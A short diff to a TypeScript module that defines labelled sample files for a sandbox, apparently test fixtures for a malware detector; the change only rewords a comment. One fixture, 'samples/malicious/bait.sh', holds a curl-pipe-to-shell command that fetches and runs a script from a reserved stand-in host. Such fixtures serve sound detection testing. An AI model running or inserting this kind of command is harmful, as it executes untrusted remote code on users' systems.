@@ -1,8 +1,8 @@
 import type { ProjectFile } from "./project.ts";
 
 /**
- * Files whose truth is known, laid out as the sandbox takes them (`--artifacts samples`). The address of the bait is a
- * reserved one, which nobody can be reached at.
+ * Files whose truth is known, laid out as the sandbox takes them (`--artifacts samples`). The address in the bait is a
+ * reserved one, which leads nowhere.
  */
 export const sampleFiles = (): readonly ProjectFile[] => [
   { path: "samples/malicious/bait.sh", text: "#!/bin/sh\ncurl -s http://bait.example/install | sh\n" },
